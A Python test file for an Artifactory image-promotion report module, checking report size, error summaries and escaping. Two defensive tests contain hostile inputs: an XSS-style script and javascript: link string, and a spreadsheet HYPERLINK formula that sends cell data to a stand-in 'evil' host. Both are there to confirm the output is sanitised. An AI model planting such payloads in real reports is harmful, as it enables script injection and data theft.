from __future__ import annotations

import csv
import io
import json
from typing import Any

from markdown_it import MarkdownIt

from artifactory_provider.artifactory.references import ImageReference
from artifactory_provider.promotion.errors import PromotionsFailed
from artifactory_provider.promotion.record import PromotionRecord
from artifactory_provider.promotion.reports import (
    ChunkOutcome,
    Failure,
    PromotionReport,
    PromotionResult,
    escape_markdown,
    render_report,
    sum_counts,
)

COUNTS = {"promote": 10, "unchanged": 2, "conflict": 1, "refused": 0, "missing": 0}


def result(number: int, error: str | None = None) -> PromotionResult:
    source, target = (ImageReference(key, "app", str(number)) for key in ("docker-dev", "docker-qa"))
    if error:
        return PromotionResult(source=source, target=target, error=RuntimeError(error))
    record = PromotionRecord(
        outcome="promoted",
        source=source,
        target=target,
        media_type=None,
        children=(),
        attachments=(),
        replaced=None,
        copy=True,
    )
    return PromotionResult(source=source, target=target, record=record)


def outcome(name: str, failures: int = 0, reason: str = "it broke") -> ChunkOutcome:
    report = PromotionReport(tuple(result(number, reason) for number in range(failures)))
    return ChunkOutcome.of(report, key=name, name=name)


def test_an_outcome_survives_the_way_through_an_xcom_and_stays_small() -> None:
    one = outcome("app 1–5000", failures=5000, reason="x" * 10_000)
    document = json.loads(json.dumps(one.as_dict()))
    assert ChunkOutcome.from_dict(document) == one
    assert one.counts["failed"] == 5000
    assert len(json.dumps(document)) < 16_000


def test_the_error_names_ten_and_says_how_many_more() -> None:
    lines = [f"app:{number}: it broke" for number in range(25)]
    text = str(PromotionsFailed("app 1–26", lines, total=26, lasting=25))
    assert text.startswith("25 of 26 promotions of app 1–26 failed, the other 1 are done.")
    assert text.count("it broke") == 10
    assert "… and 15 more" in text


def test_a_summary_counts_all_chunks_and_names_the_failures_first() -> None:
    text = render_report([outcome("a"), outcome("b", failures=3)], counts=COUNTS, lost=["c"])
    assert "**0 promoted, 0 found unchanged, 3 failed** in 2 of 3 chunks." in text
    assert text.index("told nothing") < text.index("it broke") < text.index("| Chunk |")
    assert sum_counts([outcome("a"), outcome("b", failures=3)])["failed"] == 3


def test_a_summary_of_a_thousand_failing_chunks_stays_readable() -> None:
    text = render_report([outcome(f"chunk {number}", failures=20) for number in range(1000)], counts=COUNTS)
    assert len(text) < 30_000
    assert "and 19,950 more" in text
    assert "and 950 more chunks" in text


def test_names_and_reasons_are_never_markup() -> None:
    hostile = "<script>alert(1)</script> [a](javascript:b) | `c` **d**\n# e ![f](g)"
    bad = ChunkOutcome(
        key="k", name=hostile, counts={"failed": 1}, failures=(Failure(source=hostile, target=hostile, reason=hostile),)
    )
    rendered: Any = MarkdownIt("commonmark").enable("table").render(render_report([bad], counts=COUNTS, lost=[hostile]))
    for tag in ("<script", "<a ", "<img", "<code", "<em", "<h1"):
        assert tag not in rendered
    assert rendered.count("<strong>") == 1
    assert MarkdownIt("commonmark").renderInline(escape_markdown(hostile)) == (
        "&lt;script&gt;alert(1)&lt;/script&gt; [a](javascript:b) | `c` **d** # e ![f](g)"
    )


def test_no_cell_of_a_report_is_taken_for_a_formula_or_breaks_its_line() -> None:
    source = ImageReference("docker-dev", "app", "1", None)
    error = ValueError('=HYPERLINK("http://evil/?"&A1)\r\n-2+3')
    file = io.StringIO()
    PromotionReport((PromotionResult(source=source, target=source, error=error),)).write_csv(file)
    [row] = csv.DictReader(io.StringIO(file.getvalue()))
    assert row["error"] == '\'=HYPERLINK("http://evil/?"&A1) -2+3'
    assert file.getvalue().count("\n") == 2
